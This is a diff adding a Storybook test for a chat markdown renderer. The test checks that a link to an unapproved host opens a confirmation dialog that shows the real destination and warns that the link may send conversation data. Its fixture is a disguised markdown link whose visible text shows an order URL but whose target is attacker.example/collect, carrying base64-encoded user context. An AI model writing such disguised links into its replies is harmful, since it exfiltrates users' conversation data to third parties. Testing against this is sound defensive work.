@@ -134,3 +134,22 @@ export const ImagePolicy: Story = {
     await expect(visibleText(markdown.querySelector('.parley-image-blocked'))).toContain('tracker.example.net');
   },
 };
+
+/**
+ * A link to a host nobody allowed (neither the page's own nor `link-hosts`) waits for a
+ * confirmation that shows where it really goes, and warns when its URL looks like it carries data.
+ */
+export const LinkConfirmation: Story = {
+  args: {
+    text: 'Your order is at [https://erp.example/orders/7](https://attacker.example/collect?d=U0VDUkVUX0NPTlRFWFRfT0ZfVEhFX1VTRVI%3D).',
+  },
+  play: async ({ canvasElement }) => {
+    const markdown = renderedIn(canvasElement);
+    await waitFor(() => expect(markdown.querySelector('a')).not.toBeNull());
+    await userEvent.click(markdown.querySelector('a')!);
+    const box = markdown.querySelector<HTMLElement>('[role="alertdialog"]')!;
+    await expect(visibleText(box)).toContain('attacker.example/collect?d=');
+    await expect(visibleText(box)).toContain('may send data from this conversation');
+    await expect(box.querySelectorAll('button')).toHaveLength(2);
+  },
+};
